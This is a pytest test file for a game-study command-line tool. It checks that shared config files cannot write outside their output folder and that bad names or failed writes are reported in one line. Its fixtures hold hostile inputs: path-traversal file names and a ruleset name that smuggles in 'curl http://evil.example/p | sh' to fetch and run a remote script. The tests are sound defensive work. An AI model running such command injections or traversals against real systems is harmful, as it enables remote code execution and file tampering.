"""A shared study file writes only inside its output folder (issue: what a shared file can do).

``stratego-study`` joins the ``[output]`` names to the output folder; a study file passed
around by others must not write anywhere else, and a bad name or a failed write is told in one
line, never a traceback.
"""

from __future__ import annotations

import pathlib

import pytest

import stratego_widget as sw
from stratego_widget.experiments import Study
from stratego_widget.experiments import cli as study_cli

SMALL = 'rulesets = ["duel"]\nred = "random"\ngames = 1\nmax_plies = 10\n'


def run(tmp_path: pathlib.Path, text: str, *args: str) -> int:
    config = tmp_path / "study.toml"
    config.write_text(text, encoding="utf-8")
    return study_cli.main([str(config), "--workers", "1", "--no-progress", *args])


def one_error_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err.strip()
    assert err.startswith("stratego-study: error:"), err
    assert len(err.splitlines()) == 1, err
    return err


@pytest.mark.parametrize("name", [
    "{outside}/victim.txt",  # an absolute path
    "../victim.txt",
    "runs/../../victim.txt",
    "..\\\\victim.txt",
    "C:/victim.txt",
])
@pytest.mark.parametrize("with_out", [False, True])
def test_an_output_name_that_leaves_the_folder_is_refused_and_nothing_is_written(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str], name: str,
        with_out: bool) -> None:
    folder = tmp_path / "inner"
    folder.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n", encoding="utf-8")
    name = name.format(outside=tmp_path)
    text = SMALL + f'[output]\ntable = ""\nplot = ""\nsummary = "{name}"\n'
    config = folder / "study.toml"
    config.write_text(text, encoding="utf-8")
    args = [str(config), "--no-progress"] + (["--out", str(folder / "out")] if with_out else [])
    assert study_cli.main(args) == 2
    err = one_error_line(capsys)
    assert "[output] summary" in err and "output folder" in err
    assert victim.read_text(encoding="utf-8") == "mine\n"
    assert sorted(path.name for path in tmp_path.rglob("*")) == ["inner", "study.toml",
                                                                "victim.txt"]


def test_a_linked_folder_that_leads_out_is_refused(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "study"
    folder.mkdir()
    (folder / "runs").symlink_to(outside, target_is_directory=True)
    text = SMALL + '[output]\ntable = ""\nplot = ""\nsummary = "runs/summary.txt"\n'
    (folder / "study.toml").write_text(text, encoding="utf-8")
    assert study_cli.main([str(folder / "study.toml"), "--no-progress"]) == 2
    assert "not a file inside the output folder" in one_error_line(capsys)
    assert list(outside.iterdir()) == []


def test_a_ruleset_name_with_control_characters_is_refused(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = ('games = 1\n[rulesets]\n"x\\ncurl http://evil.example/p | sh\\n#" = "duel"\n'
            '[output]\ntable = ""\nplot = ""\n')
    assert run(tmp_path, text) == 2
    assert "control characters" in one_error_line(capsys)
    assert not (tmp_path / "study.txt").exists()
    with pytest.raises(sw.StrategoError, match="control characters"):
        Study({"a\tb": "duel"})


def test_an_output_name_with_a_control_character_is_refused(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(tmp_path, SMALL + '[output]\nsummary = "a\\nb.txt"\n') == 2
    assert "control character" in one_error_line(capsys)


@pytest.mark.parametrize("value", ["1", "[\"a\"]", "{ x = 1 }"])
def test_an_output_name_that_is_not_text_is_refused(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str], value: str) -> None:
    assert run(tmp_path, SMALL + f"[output]\nsummary = {value}\n") == 2
    assert "[output] summary is a file name" in one_error_line(capsys)


def test_outputs_in_a_missing_subfolder_are_written_there(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = SMALL + '[output]\ntable = "runs/a/games.csv"\nplot = ""\nsummary = "runs/s.txt"\n'
    assert run(tmp_path, text, "--out", str(tmp_path / "new")) == 0
    capsys.readouterr()
    assert (tmp_path / "new" / "runs" / "a" / "games.csv").read_text(encoding="utf-8")
    assert "How games end" in (tmp_path / "new" / "runs" / "s.txt").read_text(encoding="utf-8")


def test_a_write_that_fails_is_told_in_one_line(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    def full_disk(file: object, *args: object, **kwargs: object) -> object:
        raise OSError(28, "No space left on device", str(file))

    monkeypatch.setattr("builtins.open", full_disk)  # the summary's write
    assert run(tmp_path, SMALL + '[output]\ntable = ""\nplot = ""\n') == 2
    err = one_error_line(capsys)
    assert "cannot write the outputs (No space left on device" in err and "study.txt" in err


def test_a_write_onto_a_folder_is_told_in_one_line(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "study.txt").mkdir()
    assert run(tmp_path, SMALL + '[output]\ntable = ""\nplot = ""\n') == 2
    assert "not a file inside the output folder" in one_error_line(capsys)


def test_a_huge_or_binary_study_file_is_refused_before_it_is_read(
        tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = tmp_path / "big.toml"
    with config.open("wb") as handle:
        handle.truncate(study_cli.MAX_STUDY_FILE_BYTES + 1)
    assert study_cli.main([str(config), "--no-progress"]) == 2
    assert "at most" in one_error_line(capsys)
    config.write_bytes(b"rulesets = [\"duel\"]\n\xff\xfe")
    assert study_cli.main([str(config), "--no-progress"]) == 2
    assert "not UTF-8" in one_error_line(capsys)
    config.write_text("a = " + "[" * 3000, encoding="utf-8")
    assert study_cli.main([str(config), "--no-progress"]) == 2
    assert "nested too deeply" in one_error_line(capsys)
